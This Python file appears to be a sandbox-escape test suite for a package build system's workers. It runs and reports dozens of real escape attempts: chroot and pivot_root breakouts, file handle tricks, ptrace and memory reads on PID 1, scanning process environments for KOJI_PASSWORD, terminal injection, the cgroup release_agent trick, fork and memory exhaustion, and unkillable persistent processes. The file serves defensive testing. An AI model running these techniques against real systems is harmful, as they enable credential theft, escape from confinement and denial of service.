# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks from inside a worker: as a file, with only Python's standard library.

``intruder.py CONFIGURATION NAME…`` makes each attempt in a separate process, and prints a JSON object: name → what it
achieved, or the error that stopped it. The configuration is a JSON object with the attacker's knowledge.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import resource
import signal
import socket
import stat
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUTS, CLONE_NEWIPC = 0x00020000, 0x02000000, 0x04000000, 0x08000000
CLONE_NEWUSER, CLONE_NEWPID, CLONE_NEWNET = 0x10000000, 0x20000000, 0x40000000
MS_RDONLY, MS_NOSUID, MS_NODEV, MS_REMOUNT, MS_BIND, MS_MOVE, MS_REC, MS_PRIVATE = (
    1, 2, 4, 0x20, 0x1000, 0x2000, 0x4000, 0x40000,
)  # fmt: skip
MNT_DETACH = 2
AT_FDCWD, AT_EMPTY_PATH = -100, 0x1000
#: System call numbers common to all architectures (asm-generic/unistd.h).
OPEN_TREE, MOUNT_SETATTR, PIDFD_OPEN = 428, 442, 434
IO_URING_SETUP, IO_URING_ENTER = 425, 426
#: Numbers that differ: x86_64, and those common to aarch64 and riscv64.
_NUMBERS = {
    "ptrace": (101, 117), "keyctl": (250, 219), "request_key": (249, 218), "bpf": (321, 280),
    "perf_event_open": (298, 241), "init_module": (175, 105), "pivot_root": (155, 41), "settimeofday": (164, 170),
    "swapon": (167, 224), "iopl": (172, None), "syslog": (103, 116), "kexec_load": (246, 104),
    "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265), "process_vm_readv": (310, 270),
}  # fmt: skip

ATTEMPTS: dict[str, Callable[[dict[str, Any]], Any]] = {}


def attempt(function: Callable[[dict[str, Any]], Any]) -> Callable[[dict[str, Any]], Any]:
    """Register an attempt: it returns what it achieved, or raises OSError."""
    ATTEMPTS[function.__name__] = function
    return function


def check(result: int) -> int:
    """Raise OSError if a libc call failed."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def syscall(name: str, *arguments: Any) -> int:
    """Make a system call."""
    known = _NUMBERS[name][0 if platform.machine() == "x86_64" else 1]
    if known is None:
        raise OSError(errno.ENOSYS, "not on this machine")
    return check(libc.syscall(known, *arguments))


def mount(source: str | None, target: str, kind: str | None = None, flags: int = 0, options: str | None = None) -> None:
    """mount(2)."""
    encoded = [each.encode() if each is not None else None for each in (source, target, kind)]
    check(libc.mount(*encoded, ctypes.c_ulong(flags), options.encode() if options else None))


def unshare(flags: int) -> None:
    """unshare(2)."""
    check(libc.unshare(flags))


def fail(number: int = errno.ENOENT) -> Any:
    """Raise an OSError."""
    raise OSError(number, os.strerror(number))


def read(path: str) -> str:
    """The first bytes of a file."""
    with open(path, "rb") as file:
        return file.read(4096).decode(errors="replace")


def first(paths: Iterator[str] | list[str], secret: str) -> str:
    """Return the first path that has the secret."""
    error: OSError | None = None
    for path in paths:
        try:
            if secret in read(path):
                return path
        except OSError as failure:
            error = failure
    raise error or OSError(errno.ENOENT, "no secret there")


def processes() -> list[str]:
    """Return all visible processes."""
    return [each for each in os.listdir("/proc") if each.isdigit()]


# Files of the builder.


@attempt
def read_by_name(config: dict[str, Any]) -> str:
    return read(config["file"])


@attempt
def read_above(config: dict[str, Any]) -> str:
    return read("/.." * 20 + config["file"])


@attempt
def read_through_processes(config: dict[str, Any]) -> str:
    places = [f"/proc/{pid}/{name}{config['file']}" for pid in processes() for name in ("root", "cwd", "cwd/../..")]
    return first(places, config["secret"])


@attempt
def read_descriptors_of_processes(config: dict[str, Any]) -> str:
    found = []
    for pid in set(processes()) - {str(os.getpid())}:
        directory = f"/proc/{pid}/fd"
        try:
            found += [f"{directory}/{name}: {os.readlink(f'{directory}/{name}')}" for name in os.listdir(directory)]
        except PermissionError:
            continue
    # Libraries, which Python may hold open, are among the programs readable by every worker.
    harmless = ("pipe:", "/dev/null", ": /usr/lib", config["own"])
    others = [each for each in found if not any(part in each for part in harmless)]
    return " ".join(others) or fail()


@attempt
def read_other_build(config: dict[str, Any]) -> str:
    return " ".join(os.listdir(config["other"]))


@attempt
def read_all_builds(config: dict[str, Any]) -> str:
    found = [
        each
        for each in os.listdir(os.path.dirname(config["directory"]))
        if each != os.path.basename(config["directory"])
    ]
    return " ".join(found) or fail()


@attempt
def read_own_build(config: dict[str, Any]) -> str:
    """The task's files beside the worker's directory: its lock, logs, notes."""
    return read(f"{config['directory']}/lock") or "empty"


@attempt
def read_after_pivot(config: dict[str, Any]) -> str:
    """Change the root file system, to find the one below the sandbox's."""
    os.makedirs("/tmp/new/old", exist_ok=True)
    mount("tmpfs", "/tmp/new", "tmpfs")
    os.mkdir("/tmp/new/old")
    os.chdir("/tmp/new")
    syscall("pivot_root", b".", b"old")
    os.chdir("/")
    found = [f"/old{config['file']}", f"/old/oldroot{config['file']}", f"/old/../old{config['file']}"]
    return first(found, config["secret"])


@attempt
def read_after_unmounting(config: dict[str, Any]) -> str:
    """Unmount the root file system and look below it."""
    for _ in range(3):
        check(libc.umount2(b"/", MNT_DETACH))
    return read(config["file"])


@attempt
def read_after_two_chroots(config: dict[str, Any]) -> str:
    os.makedirs("/tmp/jail", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    return read(config["file"])


@attempt
def open_by_handle(config: dict[str, Any]) -> str:
    """Open a file system's root directory, whose number is well known, past its mounts (open_by_handle_at(2))."""
    for path in ("/usr", config["work"]):
        directory = os.open(path, os.O_RDONLY)
        handle = struct.pack("=IiII", 8, 1, 2, 0) + bytes(112)  # FILEID_INO32_GEN: inode 2, any generation
        opened = syscall("open_by_handle_at", directory, handle, os.O_RDONLY)
        return " ".join(os.listdir(opened))
    return ""


def _device(config: dict[str, Any]) -> str:
    number = os.stat(config["work"]).st_dev
    path = f"{config['work']}/disk-{os.getpid()}"
    os.mknod(path, 0o600 | stat.S_IFBLK, number)
    return path


@attempt
def read_disk(config: dict[str, Any]) -> str:
    return str(len(read(_device(config))))


@attempt
def make_character_device(config: dict[str, Any]) -> str:
    path = f"{config['work']}/memory"
    os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 1))
    return path


@attempt
def mount_disk(config: dict[str, Any]) -> str:
    line = next(each for each in read("/proc/self/mountinfo").splitlines() if each.split()[4] == "/usr").split(" - ")[1]
    kind, source = line.split()[:2]
    os.makedirs("/tmp/disk", exist_ok=True)
    mount(source, "/tmp/disk", kind)
    return " ".join(os.listdir("/tmp/disk"))


@attempt
def devices(config: dict[str, Any]) -> str:
    """Find devices that hold data."""
    found = []
    for directory, _, names in os.walk("/dev"):
        for name in names:
            path = os.path.join(directory, name)
            facts = os.lstat(path)
            harmless = {os.makedev(1, minor) for minor in (3, 5, 7, 8, 9)} | {os.makedev(5, 0), os.makedev(5, 2)}
            if stat.S_ISBLK(facts.st_mode) or (stat.S_ISCHR(facts.st_mode) and facts.st_rdev not in harmless):
                found.append(path)
    return " ".join(found) or fail()


# The builder's read-only files: they must stay read-only.


def _shown(config: dict[str, Any]) -> list[str]:
    return ["/usr", "/sys", "/run/fedpkg-container", "/etc/passwd", *config["readable"]]


def _each(paths: list[str], act: Callable[[str], object]) -> str:
    """Return the paths an action succeeded on."""
    done, error = [], None
    for path in paths:
        try:
            act(path)
            done.append(path)
        except OSError as failure:
            error = failure
    if not done and error:
        raise error
    return " ".join(done)


@attempt
def write_what_is_shown(config: dict[str, Any]) -> str:
    def write(path: str) -> None:
        if os.path.isdir(path):
            os.close(os.open(f"{path}/evil", os.O_WRONLY | os.O_CREAT, 0o666))
        else:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))

    return _each(_shown(config), write)


@attempt
def replace_what_is_shown(config: dict[str, Any]) -> str:
    def replace(path: str) -> None:
        os.makedirs("/tmp/evil", exist_ok=True)
        new = f"{os.path.dirname(path)}/new-{os.getpid()}"
        with open(new, "w") as file:
            file.write("evil")
        os.rename(new, path)

    return _each(_shown(config), replace)


@attempt
def change_owners_and_modes(config: dict[str, Any]) -> str:
    def change(path: str) -> None:
        try:
            os.chmod(path, 0o777)
        except OSError:
            os.chown(path, 0, 0)

    return _each(_shown(config), change)


@attempt
def remount_writable(config: dict[str, Any]) -> str:
    return _each(_shown(config), lambda path: mount(None, path, None, MS_REMOUNT | MS_BIND))


@attempt
def bind_writable(config: dict[str, Any]) -> str:
    def bind(path: str) -> None:
        target = f"/tmp/bind-{os.path.isdir(path)}"
        if os.path.isdir(path):
            os.makedirs(target, exist_ok=True)
        else:
            open(target, "a").close()
        mount(path, target, None, MS_BIND | MS_REC)
        mount(None, target, None, MS_REMOUNT | MS_BIND)

    return _each(_shown(config), bind)


@attempt
def set_attributes_of_mounts(config: dict[str, Any]) -> str:
    """mount_setattr(2), and a copy of the mount, which it makes writable."""

    def change(path: str) -> None:
        attributes = struct.pack("QQQQ", 0, 1, 0, 0)  # clear MOUNT_ATTR_RDONLY
        tree = check(libc.syscall(OPEN_TREE, AT_FDCWD, path.encode(), 1 | os.O_CLOEXEC))
        size = ctypes.c_size_t(len(attributes))
        check(libc.syscall(MOUNT_SETATTR, tree, b"", AT_EMPTY_PATH, attributes, size))

    return _each(_shown(config), change)


@attempt
def unmount_what_is_shown(config: dict[str, Any]) -> str:
    return _each(
        [*_shown(config), "/proc", config["work"]], lambda path: check(libc.umount2(path.encode(), MNT_DETACH))
    )


@attempt
def move_what_is_shown(config: dict[str, Any]) -> str:
    os.makedirs("/tmp/moved", exist_ok=True)
    return _each(_shown(config), lambda path: mount(path, "/tmp/moved", None, MS_MOVE))


@attempt
def execute_with_set_user_id(config: dict[str, Any]) -> str:
    """Execute a set-user-ID program of root as another user of the worker, and one of the builder's."""
    path = f"{config['work']}/{os.getpid()}"
    os.mkdir(path)
    os.chmod(path, 0o755)
    for each in (config["work"], os.path.dirname(config["work"])):
        try:
            os.chmod(each, 0o755)
        except OSError:
            pass
    program = f"{path}/id"
    with open("/usr/bin/id", "rb") as source, open(program, "wb") as target:
        target.write(source.read())
    os.chmod(program, 0o6755)
    output, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(writing, 1)
        os.setresgid(1000, 1000, 1000)
        os.setresuid(1000, 1000, 1000)
        os.execv(program, [program, "-u"])
    os.close(writing)
    user = os.read(output, 100).decode().strip()
    os.waitpid(pid, 0)
    return "uid 0" if user == "0" else fail(errno.EPERM)


# Processes.


@attempt
def see_processes(config: dict[str, Any]) -> str:
    """Find processes besides the worker's own: the first, this one and its parent."""
    own = {"1", str(os.getpid()), str(os.getppid())}
    return " ".join(sorted(set(processes()) - own)) or fail()


@attempt
def trace_first_process(config: dict[str, Any]) -> str:
    syscall("ptrace", 16, 1, 0, 0)  # PTRACE_ATTACH
    return "attached"


@attempt
def read_memory_of_first_process(config: dict[str, Any]) -> str:
    return str(os.open("/proc/1/mem", os.O_RDWR))


@attempt
def copy_memory_of_first_process(config: dict[str, Any]) -> str:
    buffer = ctypes.create_string_buffer(16)
    local = struct.pack("PL", ctypes.addressof(buffer), 16)
    address = int(read("/proc/self/maps").partition("-")[0], 16)
    return str(syscall("process_vm_readv", 1, local, 1, struct.pack("PL", address, 16), 1, 0))


@attempt
def kill_first_process(config: dict[str, Any]) -> str:
    os.kill(1, signal.SIGTERM)
    return "killed"


@attempt
def kill_by_number(config: dict[str, Any]) -> str:
    os.kill(config["pid"], signal.SIGTERM)
    return "killed"


@attempt
def read_environments(config: dict[str, Any]) -> str:
    return first([f"/proc/{pid}/environ" for pid in processes()], "KOJI_PASSWORD")


@attempt
def own_environment(config: dict[str, Any]) -> str:
    return " ".join(f"{key}={value}" for key, value in os.environ.items() if config["secret"] in value) or fail()


@attempt
def own_descriptors(config: dict[str, Any]) -> str:
    """Find inherited descriptors other than standard input, output and error."""
    return str(config["descriptors"] or fail())


@attempt
def enter_namespaces_of_first_process(config: dict[str, Any]) -> str:
    kinds = ("mnt", "user", "net", "pid", "ipc", "uts", "cgroup")

    def enter(kind: str) -> None:
        check(libc.setns(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0))

    return _each([*kinds], enter)


@attempt
def enter_namespaces_by_descriptor(config: dict[str, Any]) -> str:
    process = check(libc.syscall(PIDFD_OPEN, 1, 0))
    flags = (CLONE_NEWNS, CLONE_NEWNET, CLONE_NEWUSER, CLONE_NEWPID, CLONE_NEWIPC, CLONE_NEWUTS, CLONE_NEWCGROUP)
    return _each([*map(str, flags)], lambda flag: check(libc.setns(process, int(flag))))


@attempt
def read_keys(config: dict[str, Any]) -> str:
    """Read a key of the process that started the worker."""
    key = syscall("request_key", b"user", config["key"].encode(), None, -3)
    buffer = ctypes.create_string_buffer(100)
    length = syscall("keyctl", 11, key, buffer, 100)
    return buffer.raw[:length].decode()


@attempt
def list_keys(config: dict[str, Any]) -> str:
    return str(config["key"]) if config["key"] in read("/proc/keys") else str(fail())


@attempt
def open_terminal(config: dict[str, Any]) -> str:
    terminal = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(terminal, 0x5412, b"x")  # TIOCSTI
    return "wrote to the terminal"


# Kernel settings.


def _writable(top: str, ignored: tuple[str, ...] = ()) -> str:
    """Files that can be opened for writing, except those with given prefixes."""
    found = []
    for directory, _, names in os.walk(top):
        for name in names:
            path = os.path.join(directory, name)
            if path.startswith(ignored):
                continue
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW))
                found.append(path)
            except OSError:
                continue
    return " ".join(found[:10]) or fail(errno.EACCES)


@attempt
def write_settings_of_kernel(config: dict[str, Any]) -> str:
    """Open /proc/sys for writing, except the worker's own limits, and a file that is openable but not writable."""
    ignored = ("/proc/sys/kernel/ns_last_pid", *(["/proc/sys/user"] if has_own_limits() else []))
    return _writable("/proc/sys", ignored)


@attempt
def choose_numbers_of_processes(config: dict[str, Any]) -> str:
    with open("/proc/sys/kernel/ns_last_pid", "w") as file:
        file.write("1000")
    return "chosen"


def has_own_limits() -> bool:
    """Return whether this user namespace has separate limits."""
    return read("/proc/self/uid_map").split()[1] != "0"


@attempt
def write_own_limits_of_namespaces(config: dict[str, Any]) -> str:
    path = "/proc/sys/user/max_user_namespaces"
    with open(path, "w") as file:
        file.write("7")
    return read(path)


@attempt
def write_sys(config: dict[str, Any]) -> str:
    return _writable("/sys")


def _in_new_process_namespace(act: Callable[[], str]) -> str:
    unshare(CLONE_NEWPID | CLONE_NEWNS)
    output, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            said = f"+{act()}"
        except OSError as error:
            said = f"-{error.errno}"
        os.write(writing, said.encode())
        os._exit(0)
    os.close(writing)
    said = os.read(output, 4096).decode()
    os.waitpid(pid, 0)
    return said[1:] if said.startswith("+") else fail(int(said[1:]))


@attempt
def write_settings_in_new_proc(config: dict[str, Any]) -> str:
    """Mount a new /proc, in new namespaces."""

    def act() -> str:
        os.makedirs("/tmp/proc", exist_ok=True)
        mount("proc", "/tmp/proc", "proc")
        own = ("/tmp/proc/sys/user", "/tmp/proc/sys/kernel/ns_last_pid", "/tmp/proc/sys/kernel/pid_max")
        return _writable("/tmp/proc/sys", own)

    return _in_new_process_namespace(act)


@attempt
def press_sysrq(config: dict[str, Any]) -> str:
    with open("/proc/sysrq-trigger", "w") as file:
        file.write("h")
    return "pressed"


@attempt
def write_sys_of_new_network(config: dict[str, Any]) -> str:
    """Mount a new /sys; files of the worker's own network interfaces are excluded."""
    unshare(CLONE_NEWNET | CLONE_NEWNS)
    os.makedirs("/tmp/sys", exist_ok=True)
    mount("sysfs", "/tmp/sys", "sysfs")
    return _writable("/tmp/sys", ("/tmp/sys/devices/virtual/net", "/tmp/sys/class/net"))


@attempt
def read_memory_of_kernel(config: dict[str, Any]) -> str:
    return _each(["/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/proc/kmsg"], lambda path: read(path))


@attempt
def load_module(config: dict[str, Any]) -> str:
    return str(syscall("init_module", b"\x7fELF", 4, b""))


@attempt
def set_clock(config: dict[str, Any]) -> str:
    return str(syscall("settimeofday", struct.pack("qq", int(time.time()), 0), None))


@attempt
def set_host_name(config: dict[str, Any]) -> str:
    check(libc.sethostname(b"evil", 4))
    return "set"


@attempt
def reboot(config: dict[str, Any]) -> str:
    check(libc.reboot(0))  # LINUX_REBOOT_CMD_CAD_OFF
    return "changed"


@attempt
def swap(config: dict[str, Any]) -> str:
    path = f"{config['work']}/swap"
    with open(path, "wb") as file:
        file.truncate(1 << 20)
    return str(syscall("swapon", path.encode(), 0))


@attempt
def raise_limits(config: dict[str, Any]) -> str:
    def higher(name: str) -> None:
        number = getattr(resource, name)
        hard = resource.getrlimit(number)[1]
        if hard == resource.RLIM_INFINITY:
            fail(errno.EPERM)
        try:
            resource.setrlimit(number, (hard + 1, hard + 1))
        except ValueError:  # Python: for EPERM
            fail(errno.EPERM)

    return _each([each for each in dir(resource) if each.startswith("RLIMIT_")], higher)


@attempt
def raise_priority(config: dict[str, Any]) -> str:
    os.setpriority(os.PRIO_PROCESS, 0, os.getpriority(os.PRIO_PROCESS, 0) - 1)
    return "raised"


@attempt
def schedule_in_real_time(config: dict[str, Any]) -> str:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return "scheduled"


@attempt
def survive_lack_of_memory(config: dict[str, Any]) -> str:
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("-1000")
    return "set"


@attempt
def load_bpf(config: dict[str, Any]) -> str:
    instructions = struct.pack("=BBhi", 0xB7, 0, 0, 0) + struct.pack("=BBhi", 0x95, 0, 0, 0)
    code, license_ = ctypes.create_string_buffer(instructions), ctypes.create_string_buffer(b"GPL")
    kind = 6  # BPF_PROG_TYPE_XDP
    attributes = struct.pack("=IIQQ", kind, 2, ctypes.addressof(code), ctypes.addressof(license_)) + bytes(104)
    return str(syscall("bpf", 5, attributes, len(attributes)))


@attempt
def watch_processors(config: dict[str, Any]) -> str:
    """Count events of all processes (perf_event_open(2))."""
    attributes = struct.pack("=IIQ", 1, 128, 0) + bytes(112)  # PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK
    return str(syscall("perf_event_open", attributes, -1, 0, -1, 0))


# Control groups.


def _groups() -> list[str]:
    """Directories of this process's control groups, and of the root of each hierarchy."""
    found = []
    for line in read("/proc/self/cgroup").splitlines():
        _, names, path = line.split(":", 2)
        for name in (names.removeprefix("name="), "unified", ""):
            for top in (f"/sys/fs/cgroup/{name}", f"/sys/fs/cgroup/{name}{path}"):
                if os.path.exists(f"{top}/cgroup.procs") and top not in found:
                    found.append(top)
    return found


@attempt
def own_control_group(config: dict[str, Any]) -> str:
    return read("/proc/self/cgroup")


def _move(directory: str) -> None:
    with open(f"{directory}/cgroup.procs", "w") as file:
        file.write(str(os.getpid()))


def _raise(directory: str) -> None:
    error: OSError | None = None
    for name in ("pids.max", "memory.max", "memory.limit_in_bytes"):
        try:
            with open(f"{directory}/{name}", "w") as file:
                file.write("max" if "limit" not in name else "-1")
            return
        except OSError as failure:
            error = failure
    if error:
        raise error


@attempt
def leave_control_group(config: dict[str, Any]) -> str:
    return _each(_groups(), _move)


@attempt
def raise_limits_of_control_group(config: dict[str, Any]) -> str:
    return _each(_groups(), _raise)


@attempt
def make_control_group(config: dict[str, Any]) -> str:
    return _each(_groups(), lambda directory: os.mkdir(f"{directory}/evil"))


@attempt
def mount_control_groups(config: dict[str, Any]) -> str:
    """Mount the hierarchies again, in a new control group namespace."""
    unshare(CLONE_NEWCGROUP | CLONE_NEWNS)
    done, error = [], OSError(errno.ENOENT, "none was mounted")
    for kind, options in (("cgroup2", None), ("cgroup", "pids"), ("cgroup", "memory"), ("cgroup", "none,name=systemd")):
        target = f"/tmp/{kind}-{options}"
        os.makedirs(target, exist_ok=True)
        for act in (_move, _raise, lambda directory: os.mkdir(f"{directory}/evil"), _release):
            try:
                mount(kind, target, kind, 0, options)
                act(target)
                done.append(f"{target} {act.__name__}")
            except OSError as failure:
                error = failure
    if not done:
        raise error
    return " ".join(done)


def _release(directory: str) -> None:
    """Set a program that the kernel starts when a group becomes empty (CVE-2022-0492)."""
    with open(f"{directory}/release_agent", "w") as file:
        file.write("/bin/true")


@attempt
def many_processes(config: dict[str, Any]) -> str:
    """Start more waiting processes than allowed; return the number started."""
    started: list[int] = []
    try:
        while len(started) < config["processes"] + 20:
            pid = os.fork()
            if pid == 0:
                signal.pause()
                os._exit(0)
            started.append(pid)
    finally:
        for pid in started:
            os.kill(pid, signal.SIGKILL)
        for pid in started:
            os.waitpid(pid, 0)
        config["reported"] = len(started)
    return str(len(started))


@attempt
def much_memory(config: dict[str, Any]) -> str:
    """Write to more memory than allowed, in a process that may be killed."""
    pid = os.fork()
    if pid == 0:
        kept = []
        for _ in range(config["memory"] * 2 // (1 << 20)):
            kept.append(b"x" * (1 << 20))
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    return "had it all" if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0 else fail(errno.ENOMEM)


@attempt
def much_memory_in_files(config: dict[str, Any]) -> str:
    """Do the same in a memory file system."""
    pid = os.fork()
    if pid == 0:
        with open("/tmp/much", "wb") as file:
            for _ in range(config["memory"] * 2 // (1 << 20)):
                file.write(b"x" * (1 << 20))
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    return "had it all" if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0 else fail(errno.ENOMEM)


# The network.


def _ask(address: str, port: int, device: str = "") -> str:
    with socket.socket() as connection:
        connection.settimeout(3)
        if device:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        connection.connect((address, port))
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return connection.recv(1000).decode(errors="replace").splitlines()[-1]


@attempt
def connect(config: dict[str, Any]) -> str:
    return _each(config["addresses"], lambda address: _ask(address, config["port"]))


@attempt
def connect_through_device(config: dict[str, Any]) -> str:
    """Routes do not apply to an interface's sockets."""
    names = [name for _, name in socket.if_nameindex()]
    pairs = [f"{address}%{name}" for address in config["addresses"] for name in names]
    return _each(pairs, lambda pair: _ask(pair.partition("%")[0], config["port"], pair.partition("%")[2]))


def _route(address: str) -> None:
    """Request a route to an address by the gateway (rtnetlink(7))."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        destination = struct.pack("=HH4s", 8, 1, socket.inet_aton(address))
        gateway = struct.pack("=HH4s", 8, 5, socket.inet_aton("10.0.2.2"))
        route = struct.pack("=BBBBBBBBI", socket.AF_INET, 32, 0, 0, 254, 3, 0, 1, 0)
        body = route + destination + gateway
        # RTM_NEWROUTE; NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_REPLACE
        netlink.send(struct.pack("=IHHII", 16 + len(body), 24, 0x1 | 0x4 | 0x400 | 0x100, 1, 0) + body)
        answer = netlink.recv(4096)
    error = struct.unpack_from("=i", answer, 16)[0]
    if error:
        fail(-error)


@attempt
def change_routes(config: dict[str, Any]) -> str:
    return _each(config["addresses"], _route)


@attempt
def send_raw_packets(config: dict[str, Any]) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as made:
        return str(made.fileno())


@attempt
def send_raw_ip(config: dict[str, Any]) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as made:
        return str(made.fileno())


@attempt
def set_neighbours(config: dict[str, Any]) -> str:
    """Set the hardware address of an address of the outside network (arp(7))."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        address = struct.pack("=HH4s8s", socket.AF_INET, 0, socket.inet_aton(config["addresses"][0]), bytes(8))
        hardware = struct.pack("=H14s", 1, bytes.fromhex("525500000002"))
        fcntl.ioctl(made, 0x8955, address + hardware + struct.pack("=i16s16s", 6, bytes(16), b"tap0"))  # SIOCSARP
    return "set"


@attempt
def change_interfaces(config: dict[str, Any]) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        name = b"tap0" if "tap0" in [name for _, name in socket.if_nameindex()] else b"lo"
        fcntl.ioctl(made, 0x8914, struct.pack("=16sH14s", name, 0, bytes(14)))  # SIOCSIFFLAGS: down
    return "down"


@attempt
def connect_from_new_network(config: dict[str, Any]) -> str:
    """Connect from a new network namespace, which has no exit."""
    unshare(CLONE_NEWNET)
    return connect(config)  # type: ignore[no-any-return]


@attempt
def connect_to_hypervisor(config: dict[str, Any]) -> str:
    """Make, not connect, AF_VSOCK sockets, which network namespaces do not confine."""
    with socket.socket(40, socket.SOCK_STREAM) as made:
        return str(made.fileno())


@attempt
def use_cryptography_of_kernel(config: dict[str, Any]) -> str:
    """Make sockets by which CVE-2026-31431 changed read-only files."""
    with socket.socket(38, socket.SOCK_SEQPACKET) as made:
        return str(made.fileno())


@attempt
def make_sockets_by_io_uring(config: dict[str, Any]) -> str:
    """Make sockets by requests of io_uring(7), which are not system calls."""
    parameters = (ctypes.c_char * 120)()
    ring = check(libc.syscall(IO_URING_SETUP, 4, parameters))
    entries, completions = struct.unpack_from("=2I", parameters)
    head, tail, _, _, _, _, array = struct.unpack_from("=7I", parameters, 40)
    results = struct.unpack_from("=6I", parameters, 80)[5]
    size = max(array + 4 * entries, results + 16 * completions)
    with mmap.mmap(ring, size) as queues, mmap.mmap(ring, 64 * entries, offset=0x10000000) as requests:
        for number, family in enumerate((socket.AF_UNIX, 40)):  # the control, and AF_VSOCK
            made = struct.pack("=BBHiQQIIQ24x", 45, 0, 0, family, socket.SOCK_STREAM, 0, 0, 0, number)  # OP_SOCKET
            requests[64 * number : 64 * number + 64] = made
            struct.pack_into("=I", queues, array + 4 * number, number)
        struct.pack_into("=I", queues, tail, struct.unpack_from("=I", queues, head)[0] + 2)
        check(libc.syscall(IO_URING_ENTER, ring, 2, 2, 1, None, 0))
        answers = dict(struct.unpack_from("=Qi", queues, results + 16 * number) for number in range(2))
    return str(answers[1]) if answers[1] >= 0 else fail(-answers[1])


@attempt
def connect_to_abstract_socket(config: dict[str, Any]) -> str:
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(5)
        made.connect(f"\0{config['abstract']}")
        return "connected"


@attempt
def connect_to_sockets_of_files(config: dict[str, Any]) -> str:
    """Connect to the builder's services by socket file names."""
    found = []
    for top in ("/run", "/var/run", "/tmp", "/var/tmp", "/dev"):
        for directory, _, names in os.walk(top):
            found += [os.path.join(directory, name) for name in names]
    return " ".join(each for each in found if stat.S_ISSOCK(os.lstat(each).st_mode)) or fail()


# Persistent processes.


@attempt
def stay(config: dict[str, Any]) -> str:
    """Leave a process that ignores every signal, in a new session, double-forked."""
    ready, telling = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, signal.NSIG):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    continue
            os.write(telling, b"x")
            os.closerange(0, 1024)
            while True:
                with open(f"{config['work']}/alive", "a") as file:
                    file.write("x")
        os._exit(0)
    os.close(telling)
    os.read(ready, 1)
    return "left"


def main() -> None:
    """Make the given attempts, each in a separate process."""
    config = json.loads(sys.argv[1])
    inherited = [f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd") if int(name) > 2]
    open_files = [os.readlink(each) for each in inherited if os.path.lexists(each)]
    config["descriptors"] = " ".join(each for each in open_files if not each.startswith("/usr/lib"))  # its libraries
    results = {}
    for name in sys.argv[2:]:
        output, writing = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(output)
            unshare(CLONE_NEWNS)  # hide its mounts from the next
            try:
                answer: Any = {"achieved": str(ATTEMPTS[name](config))}
            except OSError as error:
                answer = {
                    "stopped": errno.errorcode.get(error.errno or 0, str(error)),
                    "reported": config.get("reported"),
                }
            except BaseException as error:
                answer = {"broken": f"{type(error).__name__}: {error}"}
            os.write(writing, json.dumps(answer).encode())
            os._exit(0)
        os.close(writing)
        said = b""
        while chunk := os.read(output, 65536):
            said += chunk
        os.close(output)
        os.waitpid(pid, 0)
        results[name] = json.loads(said or b'{"broken": "no answer"}')
    print(json.dumps(results))


if __name__ == "__main__":
    main()
